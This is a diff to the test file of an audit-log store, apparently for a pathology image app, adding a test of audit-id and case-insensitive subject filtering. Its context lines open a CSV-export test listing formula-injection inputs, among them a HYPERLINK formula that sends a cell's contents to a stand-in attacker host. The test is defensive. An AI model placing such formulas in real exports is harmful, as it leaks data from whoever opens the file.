@@ -51,6 +51,17 @@ def test_record_and_read_back_with_filters(store):
         store.record("made_up", "ann")
 
 
+def test_the_audit_log_filters_an_audit_id_with_its_reviews_and_a_subject_in_any_case(store):
+    accounts.add_account(store, "bob", None, "pathologist")
+    result = store.record("diagnosis", "ann", "SOB_M_DC-14-2523-40-010.png")
+    review = store.record("review", "bob", "SOB_M_DC-14-2523-40-010.png", refers_to=result)
+    other = store.record("diagnosis", "ann", "scan 50%_a.png")
+    store.record("diagnosis", "ann", "scan 500_a.png")
+    assert [r["id"] for r in store.events(audit_id=result, newest_first=False)] == [result, review]
+    assert [r["id"] for r in store.events(subject_contains="dc-14-2523", kinds="diagnosis")] == [result]
+    assert [r["id"] for r in store.events(subject_contains="50%_")] == [other]  # % and _ are plain text
+
+
 def test_csv_export_makes_formulas_inert_and_keeps_the_rows(store):
     # A failed sign-in's name and an upload's file name are chosen by whoever types them.
     formulas = ['=HYPERLINK("http://attacker.example/?"&A2,"details")', "+1+1", "-2+3", "@SUM(A1:A9)",
